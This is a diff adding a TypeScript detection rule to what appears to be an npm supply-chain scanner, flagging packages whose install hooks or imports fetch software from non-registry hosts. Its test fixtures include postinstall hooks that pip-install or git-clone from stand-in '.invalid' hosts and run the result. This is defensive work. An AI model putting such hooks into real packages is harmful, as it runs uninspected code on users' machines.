@@ -1,0 +1,132 @@
+import type { Action, Context, Fact, Inspection, Rule, Text } from '../lib/types.ts'
+import { oncePerLine } from './behaviour/once.ts'
+import { isStranger, placeInWords, placeOf } from './behaviour/place.ts'
+import { unasked } from './behaviour/written.ts'
+import { findingAt, opening, quote, severityOf } from './finding.ts'
+import type { RuleFinding } from './finding.ts'
+
+type Starts = Extract<Fact, { kind: 'starts' }>
+
+/** Package managers that are told to take a package from somewhere else than their registry. */
+const installers =
+  /\b(?:npm|pnpm|yarn|bun)(?:\.cmd)?\s+(?:\S+\s+){0,3}?(?:install|i|add|exec|x|dlx)\s|\b(?:npx|bunx|pnpx)(?:\.cmd)?\s|\b(?:pip[0-9.]*|uv\s+pip|pipx)\s+(?:\S+\s+){0,3}?install\s|-m\s+pip\s+install\s|\bgem\s+install\s|\bcargo\s+install\s|\bgo\s+install\s/
+
+/** What is fetched as a whole and then started from its folder. */
+const cloning = /\bgit\s+(?:-\S+\s+\S+\s+){0,3}clone\s|\bsvn\s+(?:co|checkout)\s|\bhg\s+clone\s/
+const starting =
+  /(?:^|[;&|]\s*)(?:node|bun|deno\s+run|sh|bash|zsh|python[0-9.]*|make|npm\s+(?:install|i|ci|start|run)|\.\/)\b/
+
+/** An address in full: options and file names have dots as well. */
+const address = /\b(?:git\+)?(?:https?|git|ssh|svn|ftp):\/\/[^\s'"`|;<>)]{1,300}/g
+
+/** Software of strangers that a hook or an import puts on the machine by other means than its dependencies. */
+export const foreignInstall: Rule = {
+  meta: {
+    id: 'foreign-install',
+    title: 'Installs software from a stranger',
+    severity: 'high',
+    description:
+      'While npm installs it or as soon as it is imported, the package tells a package manager to install something from ' +
+      'a host that is neither a registry nor its own, or clones a repository there and starts what lies in it. What comes ' +
+      'that way stands in no manifest and no lockfile, and nobody has inspected it.',
+    references: ['nppacks (June to August 2026): tarballs of the author beside the registry'],
+    blindSpots: ['Addresses that are computed.', 'Repositories on the large forges.'],
+    examples: {
+      flags: [
+        {
+          title: 'a hook installs a Python package from an index of its own',
+          files: {
+            'package.json':
+              '{"name":"a","version":"1.0.0","scripts":{"postinstall":"pip3 install --index-url http://pypi.helper.invalid/simple helper"}}',
+          },
+        },
+        {
+          title: 'an import installs a tarball',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "require('child_process').spawn('npm', ['install', '--no-save', 'https://runtime-parts.invalid/r.tgz'], { detached: true })\n",
+          },
+        },
+        {
+          title: 'a hook clones a repository and starts what lies in it',
+          files: {
+            'package.json':
+              '{"name":"a","version":"1.0.0","scripts":{"postinstall":"git clone https://git.helper.invalid/x.git /tmp/x && node /tmp/x/run.js"}}',
+          },
+        },
+      ],
+      passes: [
+        {
+          title: 'a command installs what its user names',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","bin":"cli.js"}',
+            'cli.js':
+              "#!/usr/bin/env node\nrequire('child_process').execFileSync('npm', ['install', process.argv[2]])\n",
+          },
+        },
+        {
+          title: 'a hook installs from the registry',
+          files: {
+            'package.json':
+              '{"name":"a","version":"1.0.0","scripts":{"postinstall":"npm install --prefix native node-gyp@11"}}',
+          },
+        },
+      ],
+    },
+  },
+  check(inspection, context) {
+    const starts = inspection.facts.filter((fact): fact is Starts => fact.kind === 'starts' && unasked(fact))
+    return oncePerLine(
+      inspection.facts.flatMap(fact => {
+        if (!unasked(fact)) return []
+        if (fact.kind === 'starts')
+          return fact.commands.flatMap(command => ofCommand(fact, command, starts, inspection, context))
+        if (fact.kind !== 'contacts' || fact.api !== 'git' || !isFollowed(fact, starts)) return []
+        return report(fact, 'git clone', fact.destinations, true, inspection, context)
+      }),
+    )
+  },
+}
+
+function ofCommand(
+  fact: Starts,
+  command: Text,
+  starts: readonly Starts[],
+  inspection: Inspection,
+  context: Context,
+): readonly RuleFinding[] {
+  const clones = cloning.test(command)
+  if (clones ? !isFollowed(fact, starts) : !installers.test(command)) return []
+  return report(fact, command, command.match(address) ?? [], clones, inspection, context)
+}
+
+function report(
+  fact: Fact,
+  command: Text,
+  addresses: readonly Text[],
+  clones: boolean,
+  inspection: Inspection,
+  context: Context,
+): readonly RuleFinding[] {
+  const place = placeOf(addresses, inspection, context)
+  if (!isStranger(place) || place.host === undefined) return []
+  const grave = place.kind === 'capture' || place.plain || (clones && fact.phase === 'install')
+  const action: Action = grave ? 'block' : 'ask'
+  const message =
+    `${opening(fact)} runs ${quote(command, 120)}, which brings software from ${place.host.shown}, ${placeInWords(place)}, ` +
+    `past everything that was inspected. Do not install this unless you know that host.`
+  return [findingAt(fact.at, fact.phase, { action, severity: severityOf(action), message })]
+}
+
+/** Whether the same file also starts something: what was fetched, as a rule. */
+function isFollowed(fact: Fact, starts: readonly Starts[]): boolean {
+  return starts.some(
+    other => other.phase === fact.phase && other.at.path === fact.at.path && other.commands.some(startsOther),
+  )
+}
+
+/** A start that is not the fetching itself. */
+function startsOther(command: Text): boolean {
+  return starting.test(command) || command.split(/&&|;|\n/).some(part => starting.test(part.trim()))
+}
